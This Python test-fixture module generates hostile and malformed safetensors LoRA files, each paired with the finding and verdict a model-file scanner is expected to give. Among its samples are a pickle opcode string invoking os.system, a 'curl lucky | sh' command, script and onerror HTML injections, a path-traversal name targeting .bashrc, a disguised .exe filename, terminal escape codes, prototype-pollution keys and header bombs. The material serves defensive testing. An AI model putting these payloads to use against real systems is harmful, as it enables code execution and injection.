"""Hostile LoRA files, made when they are needed, each with what must happen to it.

`FILES`: by name, the bytes of the file, the finding that must be among those of the scan, and the
verdict on the file. None of them carries anything that could run: programs are headers only.
"""

from __future__ import annotations

import io
import json
import pickle
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

DOWN = "lora_unet_mid_block_attentions_0_proj_in.lora_down.weight"
UP = "lora_unet_mid_block_attentions_0_proj_in.lora_up.weight"
HERE, THERE = (0, 512), (512, 1024)

Json = dict[str, Any]


@dataclass(frozen=True)
class Hostile:
    content: Callable[[], bytes]
    kind: str
    verdict: str


def noise(length: int, seed: int = 0) -> bytes:
    """Half-precision numbers of an honest size, between -0.5 and 0.5."""
    draw = random.Random(seed)
    return b"".join(struct.pack("<e", draw.uniform(-0.5, 0.5)) for _ in range(length // 2))


def entry(span: tuple[int, int] = HERE, **changes: object) -> Json:
    return {"dtype": "F16", "shape": [4, 64], "data_offsets": list(span), **changes}


def honest(**metadata: object) -> Json:
    """A header of two tensors, 1024 bytes in all."""
    header: Json = {DOWN: entry(), UP: entry(THERE, shape=[64, 4])}
    return {"__metadata__": metadata, **header} if metadata else header


def file(header: object, data: bytes | None = None, length: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    prefix = struct.pack("<Q", len(raw) if length is None else length)
    return prefix + raw + (noise(1024) if data is None else data)


def with_metadata(**metadata: object) -> bytes:
    return file(honest(**metadata))


def among_numbers(hidden: bytes, at: int = 300) -> bytes:
    data = bytearray(noise(4096))
    data[at : at + len(hidden)] = hidden
    header = {DOWN: entry((0, 4096), shape=[32, 64])}
    return file(header, bytes(data))


def with_number(dtype: str, packed: bytes) -> bytes:
    size = len(packed)
    data = bytes(31 * size) + packed
    return file({DOWN: entry((0, 32 * size), dtype=dtype, shape=[32])}, data)


def zipped(suffix: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", b"not run by anyone")
    return buffer.getvalue() + suffix


def pe() -> bytes:
    """The headers of a Windows program: DOS stub and PE signature, nothing behind it."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 128)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    return (head + stub).ljust(128, b"\0") + b"PE\0\0\x64\x86" + bytes(18)


def bare_pe() -> bytes:
    """The same without its stub's words."""
    return (b"MZ" + bytes(58) + struct.pack("<I", 64)) + b"PE\0\0\x64\x86" + bytes(18)


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(24) + b"__PAGEZERO\0\0\0\0\0\0"


def nested(depth: int) -> bytes:
    return b'{"a":' + b"[" * depth + b"]" * depth + b"}"


def twice(name: str) -> bytes:
    one = json.dumps(entry((0, 512)))
    other = json.dumps(entry((512, 1024)))
    return file(f'{{"{name}": {one}, "{name}": {other}}}'.encode())


FILES: dict[str, Hostile] = {
    # ------------------------------------------------ other files under this name
    "a pickle": Hostile(lambda: pickle.dumps({"a": 1}, 4), "foreign_file", "unsafe"),
    "a pickle of protocol 2": Hostile(lambda: pickle.dumps([1], 2), "foreign_file", "unsafe"),
    "an old pickle": Hostile(lambda: b"cos\nsystem\n(S'true'\ntR.", "foreign_file", "unsafe"),
    "a zipped checkpoint": Hostile(zipped, "foreign_file", "unsafe"),
    "an empty zip": Hostile(lambda: b"PK\x05\x06" + bytes(18), "foreign_file", "unsafe"),
    "a Windows program": Hostile(pe, "foreign_file", "unsafe"),
    "a Linux program": Hostile(lambda: ELF, "foreign_file", "unsafe"),
    "a macOS program": Hostile(lambda: MACHO, "foreign_file", "unsafe"),
    "a universal macOS program": Hostile(
        lambda: b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(40), "foreign_file", "unsafe"
    ),
    "a shell script": Hostile(lambda: b"#!/bin/sh\nexit 1\n", "foreign_file", "unsafe"),
    "a gzip archive": Hostile(lambda: b"\x1f\x8b\x08" + bytes(30), "foreign_file", "unsafe"),
    "a 7z archive": Hostile(lambda: b"7z\xbc\xaf\x27\x1c" + bytes(30), "foreign_file", "unsafe"),
    "a rar archive": Hostile(lambda: b"Rar!\x1a\x07\x01\0" + bytes(30), "foreign_file", "unsafe"),
    "a web page": Hostile(
        lambda: b"\n<!DOCTYPE html><title>Sign in</title>", "foreign_file", "unsafe"
    ),
    "a Git LFS pointer": Hostile(
        lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n",
        "foreign_file",
        "unsafe",
    ),
    "a PNG picture": Hostile(lambda: b"\x89PNG\r\n\x1a\n" + bytes(30), "foreign_file", "unsafe"),
    "a GGUF model": Hostile(lambda: b"GGUF\x03\0\0\0" + bytes(30), "foreign_file", "unsafe"),
    "a zip behind an honest file": Hostile(lambda: file(honest()) + zipped(), "polyglot", "unsafe"),
    "a zip as the data of a tensor": Hostile(
        lambda: file(
            {DOWN: entry((0, len(zipped())), dtype="U8", shape=[len(zipped())])}, zipped()
        ),
        "polyglot",
        "unsafe",
    ),
    # ------------------------------------------------ headers that lie, and bombs
    "nothing": Hostile(lambda: b"", "empty", "corrupt"),
    "four bytes": Hostile(lambda: b"\x04\0\0\0", "cut_off", "corrupt"),
    "a length beyond the file": Hostile(
        lambda: file(honest(), length=1 << 20), "not_safetensors", "corrupt"
    ),
    "the greatest length there is": Hostile(
        lambda: file(honest(), length=2**64 - 1), "not_safetensors", "corrupt"
    ),
    "a length of zero": Hostile(lambda: file(honest(), length=0), "bad_json", "corrupt"),
    "a header of 17 MB": Hostile(lambda: file(b"{" + b" " * 17_000_000), "header_bomb", "unsafe"),
    "a hundred thousand arrays deep": Hostile(
        lambda: file(nested(100_000)), "header_bomb", "unsafe"
    ),
    "two hundred thousand tensors": Hostile(
        lambda: file(b"{" + b",".join(b'"%d":0' % i for i in range(200_000)) + b"}"),
        "header_bomb",
        "unsafe",
    ),
    "a number of ten thousand digits": Hostile(
        lambda: file(b'{"a":' + b"9" * 10_000 + b"}"), "bad_json", "corrupt"
    ),
    "half a header": Hostile(lambda: file(b'{"a": {"dtype"'), "bad_json", "corrupt"),
    "a header that is no UTF-8": Hostile(lambda: file(b'{"\xff\xfe": 1}'), "bad_json", "corrupt"),
    "a list for a header": Hostile(lambda: file(b"[]"), "bad_json", "corrupt"),
    "a tensor twice": Hostile(lambda: twice("a.lora_down.weight"), "duplicate_keys", "unsafe"),
    "metadata twice": Hostile(
        lambda: file(b'{"__metadata__": {"a": "1"}, "__metadata__": {"a": "2"}}', b""),
        "duplicate_keys",
        "unsafe",
    ),
    "a dtype twice": Hostile(
        lambda: file(
            b'{"a": {"dtype": "F32", "dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}',
            bytes(4),
        ),
        "duplicate_keys",
        "unsafe",
    ),
    "tensors that overlap": Hostile(
        lambda: file({DOWN: entry((0, 512)), UP: entry((256, 768))}, noise(768)),
        "bad_layout",
        "unsafe",
    ),
    "two tensors in one place": Hostile(
        lambda: file({DOWN: entry(), UP: entry()}, noise(512)), "bad_layout", "unsafe"
    ),
    "a hole between tensors": Hostile(
        lambda: file({DOWN: entry((0, 512)), UP: entry((768, 1280))}, noise(1280)),
        "bad_layout",
        "unsafe",
    ),
    "a hole before the first": Hostile(
        lambda: file({DOWN: entry((512, 1024))}), "bad_layout", "unsafe"
    ),
    "bytes behind the last tensor": Hostile(
        lambda: file(honest(), noise(4096)), "hidden_bytes", "unsafe"
    ),
    "half the data": Hostile(lambda: file(honest(), noise(512)), "cut_off", "corrupt"),
    "offsets past the file": Hostile(
        lambda: file({DOWN: entry((0, 2**40), shape=[2**39])}), "cut_off", "corrupt"
    ),
    "offsets backwards": Hostile(
        lambda: file({DOWN: entry((512, 0))}, noise(512)), "bad_tensor", "corrupt"
    ),
    "negative offsets": Hostile(
        lambda: file({DOWN: entry((-512, 0))}, noise(512)), "bad_tensor", "corrupt"
    ),
    "offsets that are no integers": Hostile(
        lambda: file({DOWN: entry(data_offsets=[0.0, 512.0])}, noise(512)), "bad_tensor", "corrupt"
    ),
    "a shape that overflows": Hostile(
        lambda: file({DOWN: entry(shape=[2**62, 2**62])}, noise(512)), "bad_tensor", "corrupt"
    ),
    "a negative shape": Hostile(
        lambda: file({DOWN: entry(shape=[-4, -64])}, noise(512)), "bad_tensor", "corrupt"
    ),
    "a shape that is no list": Hostile(
        lambda: file({DOWN: entry(shape="4x64")}, noise(512)), "bad_tensor", "corrupt"
    ),
    "a dtype of its own": Hostile(
        lambda: file({DOWN: entry(dtype="OBJECT")}, noise(512)), "bad_tensor", "corrupt"
    ),
    "metadata that is no table": Hostile(
        lambda: file({"__metadata__": "text"}, b""), "metadata_not_text", "corrupt"
    ),
    "metadata with objects": Hostile(
        lambda: with_metadata(a={"b": ["c"]}), "metadata_not_text", "corrupt"
    ),
    # ------------------------------------------------ odd shapes, types, names
    "more in an entry than belongs there": Hostile(
        lambda: file({DOWN: entry(extra="x" * 500)}, noise(512)), "odd_entry", "suspicious"
    ),
    "a thousand dimensions": Hostile(
        lambda: file({DOWN: entry((0, 2), shape=[1] * 1000)}, noise(2)), "odd_shape", "suspicious"
    ),
    "a side of four million": Hostile(
        lambda: file({DOWN: entry((0, 8 << 20), shape=[4 << 20])}, bytes(8 << 20)),
        "odd_shape",
        "suspicious",
    ),
    "bytes for weights": Hostile(
        lambda: file({DOWN: entry(dtype="U8", shape=[512])}, noise(512)), "odd_dtype", "suspicious"
    ),
    "truth values for weights": Hostile(
        lambda: file({DOWN: entry(dtype="BOOL", shape=[512])}, bytes(512)),
        "odd_dtype",
        "suspicious",
    ),
    "a name that climbs out": Hostile(
        lambda: file({"../../.bashrc": entry()}, noise(512)), "odd_name", "suspicious"
    ),
    "a name of ten thousand letters": Hostile(
        lambda: file({"a" * 10_000: entry()}, noise(512)), "odd_name", "suspicious"
    ),
    "a name that turns round": Hostile(
        lambda: file({"lora_\u202egnp.exe": entry()}, noise(512)), "odd_characters", "suspicious"
    ),
    "a terminal's escape codes": Hostile(
        lambda: with_metadata(ss_output_name="\x1b]0;owned\x07"), "odd_characters", "suspicious"
    ),
    # ------------------------------------------------ numbers
    "a NaN in half precision": Hostile(
        lambda: with_number("F16", b"\x00\x7e"), "not_finite", "corrupt"
    ),
    "an infinity in half precision": Hostile(
        lambda: with_number("F16", b"\x00\xfc"), "not_finite", "corrupt"
    ),
    "a NaN in bfloat16": Hostile(lambda: with_number("BF16", b"\xc0\x7f"), "not_finite", "corrupt"),
    "an infinity in bfloat16": Hostile(
        lambda: with_number("BF16", b"\x80\xff"), "not_finite", "corrupt"
    ),
    "a NaN in single precision": Hostile(
        lambda: with_number("F32", struct.pack("<f", float("nan"))), "not_finite", "corrupt"
    ),
    "an infinity in single precision": Hostile(
        lambda: with_number("F32", struct.pack("<f", float("-inf"))), "not_finite", "corrupt"
    ),
    "a NaN in double precision": Hostile(
        lambda: with_number("F64", struct.pack("<d", float("nan"))), "not_finite", "corrupt"
    ),
    "a NaN in eight bits": Hostile(
        lambda: with_number("F8_E4M3", b"\x7f"), "not_finite", "corrupt"
    ),
    "a NaN as an alpha": Hostile(
        lambda: file({"a.alpha": entry((0, 2), shape=[])}, b"\x00\x7e"), "not_finite", "corrupt"
    ),
    # ------------------------------------------------ addresses
    "a link to a casino": Hostile(
        lambda: with_metadata(ss_training_comment="free spins at https://lucky-spins.example/qr"),
        "address",
        "suspicious",
    ),
    "a link without a scheme": Hostile(
        lambda: with_metadata(**{"modelspec.description": "see www.lucky-spins.example"}),
        "address",
        "suspicious",
    ),
    "a host that only looks known": Hostile(
        lambda: with_metadata(**{"modelspec.license": "https://huggingface.co.evil.example/l"}),
        "address",
        "suspicious",
    ),
    "a known host as the user of another": Hostile(
        lambda: with_metadata(**{"modelspec.license": "https://github.com@evil.example/l"}),
        "address",
        "suspicious",
    ),
    "an e-mail address among captions": Hostile(
        lambda: with_metadata(ss_tag_frequency='{"1_x": {"win@lucky-spins.com": 40}}'),
        "address",
        "suspicious",
    ),
    "a link as a key": Hostile(
        lambda: with_metadata(**{"http://lucky-spins.example": "1"}), "address", "suspicious"
    ),
    "a link as a tensor's name": Hostile(
        lambda: file({"https://lucky-spins.example/a": entry()}, noise(512)),
        "address",
        "suspicious",
    ),
    "a link among numbers": Hostile(
        lambda: among_numbers(b"https://lucky-spins.example/?a=1"),
        "address_in_bytes",
        "suspicious",
    ),
    "an e-mail address among numbers": Hostile(
        lambda: among_numbers(b"winner@lucky-spins.com"), "address_in_bytes", "suspicious"
    ),
    # ------------------------------------------------ programs and what others would run
    "a Windows program among numbers": Hostile(lambda: among_numbers(pe()), "executable", "unsafe"),
    "a Windows program without its words": Hostile(
        lambda: among_numbers(bare_pe(), 301), "executable", "unsafe"
    ),
    "a Linux program among numbers": Hostile(
        lambda: among_numbers(ELF, 1001), "executable", "unsafe"
    ),
    "a macOS program among numbers": Hostile(lambda: among_numbers(MACHO), "executable", "unsafe"),
    "a script among numbers": Hostile(
        lambda: among_numbers(b"#!/usr/bin/env python3\nimport os\n"), "executable", "unsafe"
    ),
    "a Windows program in base64": Hostile(
        lambda: with_metadata(ss_extra="TVqQAAMAAAAEAAAA//8AALgAAAAA"),
        "encoded_executable",
        "unsafe",
    ),
    "a pickle in base64": Hostile(
        lambda: with_metadata(ss_extra="gASVDgAAAAAAAAB9lIwBYZRLAXMu"),
        "encoded_executable",
        "unsafe",
    ),
    "a script for a web view": Hostile(
        lambda: with_metadata(**{"modelspec.title": "<script>fetch('x')</script>"}),
        "active_content",
        "suspicious",
    ),
    "a picture that runs": Hostile(
        lambda: with_metadata(**{"modelspec.title": "<img src=x onerror=alert(1)>"}),
        "active_content",
        "suspicious",
    ),
    "a shell command": Hostile(
        lambda: with_metadata(ss_training_comment="run: curl lucky | sh"),
        "active_content",
        "suspicious",
    ),
    "a key that pollutes prototypes": Hostile(
        lambda: with_metadata(__proto__="{}"), "odd_key", "suspicious"
    ),
    "a key that asks for trust": Hostile(
        lambda: with_metadata(trust_remote_code="true"), "odd_key", "suspicious"
    ),
    "five megabytes of metadata": Hostile(
        lambda: with_metadata(ss_notes="ab " * 1_700_000), "large_metadata", "suspicious"
    ),
}
